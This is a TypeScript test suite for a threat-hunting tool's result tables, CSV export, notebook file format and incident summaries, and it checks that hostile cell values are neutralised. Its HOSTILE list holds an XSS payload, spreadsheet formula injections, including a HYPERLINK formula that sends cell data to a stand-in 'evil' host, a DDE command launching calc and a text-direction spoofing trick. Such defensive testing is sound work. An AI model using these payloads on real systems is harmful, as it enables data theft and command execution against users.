import * as assert from 'assert/strict';
import { asHuntOutput, cellText, csvField, rowCountText, sortOrder, toCell, toCsv, toTsv, type HuntOutput } from '../../src/shared/huntTable';
import { bookFromCells, HuntbookFormatError, isTimespan, parseHuntbook, serializeHuntbook, type Huntbook } from '../../src/hunting/huntbook';
import { resultSummary, SUMMARY_MAX } from '../../src/hunting/summary';

/** Values an attacker can put in any field a hunt returns. */
const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil/"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\u202Eexe.txt',
  'line1\nline2\r\nline3',
  'tab\there',
  '"quoted", comma',
  '[link](command:workbench.action.reloadWindow)',
  '$(alert)',
];

function output(rows: HuntOutput['rows'], columns = [{ name: 'A', type: 'String' }]): HuntOutput {
  return { v: 1, query: 'T', columns, rows, truncated: false, rowLimit: 100_000, ranAt: '2026-01-05T10:00:00.000Z', elapsedMs: 1 };
}

describe('hunting: the result table model', () => {
  it('cells are scalars or JSON text, and their text is the value itself', () => {
    assert.equal(toCell({ a: '<b>' }), '{"a":"<b>"}');
    assert.equal(toCell(undefined), null);
    assert.equal(toCell(Number.NaN), 'NaN');
    for (const h of HOSTILE) assert.equal(cellText(toCell(h)), h, 'hostile text is kept as text, unchanged');
  });

  it('sorts numbers by value, dates by time, text case-insensitively, empties last, stably', () => {
    const nums = output([[10], [2], [null], ['x'], [33]], [{ name: 'N', type: 'Int64' }]);
    assert.deepEqual(
      sortOrder(nums, 0, 'asc').map(i => nums.rows[i][0]),
      [2, 10, 33, 'x', null],
    );
    assert.deepEqual(
      sortOrder(nums, 0, 'desc').map(i => nums.rows[i][0]),
      ['x', 33, 10, 2, null],
    );
    const dates = output([['2026-01-02T00:00:00Z'], ['2025-12-31T23:00:00Z'], ['']], [{ name: 'T', type: 'DateTime' }]);
    assert.deepEqual(sortOrder(dates, 0, 'asc'), [1, 0, 2]);
    const text = output([['b'], ['A'], ['a'], ['C']]);
    assert.deepEqual(sortOrder(text, 0, 'asc'), [1, 2, 0, 3]);
  });

  it('CSV: RFC 4180 quoting, and formula starters prefixed so a spreadsheet shows text', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('"quoted", comma'), '"""quoted"", comma"');
    assert.equal(csvField('line1\nline2'), '"line1\nline2"');
    assert.equal(csvField('=1+1'), "'=1+1");
    assert.equal(csvField('+1'), "'+1");
    assert.equal(csvField('-1'), "'-1");
    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvField('=HYPERLINK("http://evil/","x")'), '"\'=HYPERLINK(""http://evil/"",""x"")"');
    assert.equal(csvField(-5), '-5', 'a number is a number');
    assert.equal(csvField(null), '');
    const csv = toCsv(output(HOSTILE.map(h => [h])));
    const lines = csv.split('\r\n');
    assert.equal(lines[0], 'A');
    assert.ok(!/\r\n[=+\-@]/.test(csv), 'no line starts with a formula character');
    assert.ok(csv.endsWith('\r\n'));
  });

  it('CSV follows the sort order it is given; TSV keeps every row on one line', () => {
    const o = output([['b'], ['a']]);
    assert.equal(toCsv(o, [1, 0]), 'A\r\na\r\nb\r\n');
    const tsv = toTsv(output([['x\ty\nz']]));
    assert.equal(tsv, 'A\nx y z');
  });

  it('row count and truncation', () => {
    assert.equal(rowCountText(output([[1]])), '1 row');
    assert.equal(
      rowCountText({ rows: new Array(100_000).fill([1]), truncated: true, rowLimit: 100_000 }),
      '100,000 rows (truncated at 100,000 rows by the service)',
    );
  });

  it('an output read back is refused unless well-formed (no objects in cells, no missing columns)', () => {
    assert.ok(asHuntOutput(output([['a']])));
    assert.equal(asHuntOutput({ ...output([]), v: 2 }), undefined);
    assert.equal(asHuntOutput({ ...output([]), rows: [[{ html: '<b>' }]] }), undefined);
    assert.equal(asHuntOutput({ ...output([]), columns: [{ name: 1, type: 'x' }] }), undefined);
    assert.equal(asHuntOutput('x'), undefined);
  });
});

describe('hunting: the .huntbook format', () => {
  const book: Huntbook = {
    incidentId: '123',
    cells: [
      { kind: 'markdown', source: '# Hunt\n\nnotes' },
      {
        kind: 'kql',
        title: 'Processes on "ws-01"',
        timespan: '2026-01-01T00:00:00Z/2026-01-02T00:00:00Z',
        source: 'DeviceProcessEvents\n| where DeviceName == "ws\\"01"\n| take 10',
      },
      { kind: 'kql', source: '' },
    ],
  };

  it('round-trips, one JSON line per source line, stable and ending in a newline', () => {
    const text = serializeHuntbook(book);
    assert.deepEqual(parseHuntbook(text), book);
    assert.equal(serializeHuntbook(parseHuntbook(text)), text);
    assert.ok(text.endsWith('}\n'));
    assert.ok(text.includes('        "| take 10"\n'), text);
  });

  it('CRLF sources come back with LF; an empty file is an empty notebook', () => {
    assert.equal(parseHuntbook(serializeHuntbook({ cells: [{ kind: 'kql', source: 'a\r\nb' }] })).cells[0].source, 'a\nb');
    assert.deepEqual(parseHuntbook('  \n'), { cells: [] });
  });

  it('a broken file says where, and loads nothing', () => {
    const bad: [string, RegExp][] = [
      ['{', /not JSON/],
      ['[]', /top level/],
      ['{"huntbook":2,"cells":[]}', /"huntbook" must be 1/],
      ['{"huntbook":1}', /"cells" must be a list/],
      ['{"huntbook":1,"cells":[{"kind":"python","source":[]}]}', /cell 1: "kind"/],
      ['{"huntbook":1,"cells":[{"kind":"kql","source":[1]}]}', /cell 1: "source"/],
      ['{"huntbook":1,"cells":[{"kind":"kql","source":[],"timespan":"yesterday"}]}', /cell 1: "timespan"/],
      ['{"huntbook":1,"incidentId":"1; drop","cells":[]}', /"incidentId"/],
    ];
    for (const [text, re] of bad)
      assert.throws(
        () => parseHuntbook(text),
        (e: unknown) => e instanceof HuntbookFormatError && re.test(e.message),
        text,
      );
  });

  it('timespans: the ISO forms the service accepts', () => {
    for (const ok of ['P30D', 'PT12H', 'P1DT2H', '2026-01-01T00:00:00Z/2026-01-02T00:00:00Z', 'P30D/2026-01-02T00:00:00Z', '2026-01-01/P7D'])
      assert.ok(isTimespan(ok), ok);
    for (const bad of ['', 'P', '7d', 'P1D/P2D', 'a/b/c', 'P1D | take 1']) assert.ok(!isTimespan(bad), bad);
  });

  it('a notebook from generated cells keeps values inside the query and titles on one comment line', () => {
    const b = bookFromCells([{ title: 'Device "x"\n| take 1000000', query: 'DeviceProcessEvents | where DeviceName == "x\\"y"' }], '42');
    const kql = b.cells[1];
    assert.equal(kql.source.split('\n')[0], '// Device "x" | take 1000000');
    assert.equal(b.incidentId, '42');
    assert.equal(b.cells[0].kind, 'markdown');
    assert.ok(!b.cells[0].source.includes('"x"'), 'evidence text never reaches a Markdown cell');
  });
});

describe('hunting: the comment for "Add result to incident"', () => {
  it('has the query, the row count and the first rows as one-line plain text', () => {
    const rows = Array.from({ length: 25 }, (_, i) => [`dev-${i}`, i]);
    const text = resultSummary({
      ...output(rows, [
        { name: 'DeviceName', type: 'String' },
        { name: 'N', type: 'Int64' },
      ]),
      query: 'DeviceProcessEvents\n| take 25',
      timespan: 'P7D',
    });
    assert.match(text, /Query:\n {4}DeviceProcessEvents\n {4}\| take 25/);
    assert.match(text, /Time range: P7D/);
    assert.match(text, /Rows: 25 rows/);
    assert.match(text, /First 10 of 25 rows:\n1\. DeviceName=dev-0; N=0\n/);
    assert.ok(!text.includes('dev-10'));
  });

  it('hostile cells cannot add lines, reorder text or grow without bound', () => {
    const text = resultSummary(output([['a\nFAKE LINE'], ['\u202Eevil'], ['x'.repeat(10_000)]]));
    assert.ok(!/\nFAKE LINE/.test(text));
    assert.ok(!text.includes('\u202E'));
    assert.ok(text.length <= SUMMARY_MAX);
    const big = resultSummary(output(Array.from({ length: 10 }, () => Array.from({ length: 1 }, () => 'y'.repeat(3000)))));
    assert.ok(big.length <= SUMMARY_MAX);
  });

  it('says when the result was truncated', () => {
    assert.match(resultSummary({ ...output([[1]]), truncated: true }), /truncated at 100,000 rows/);
  });
});
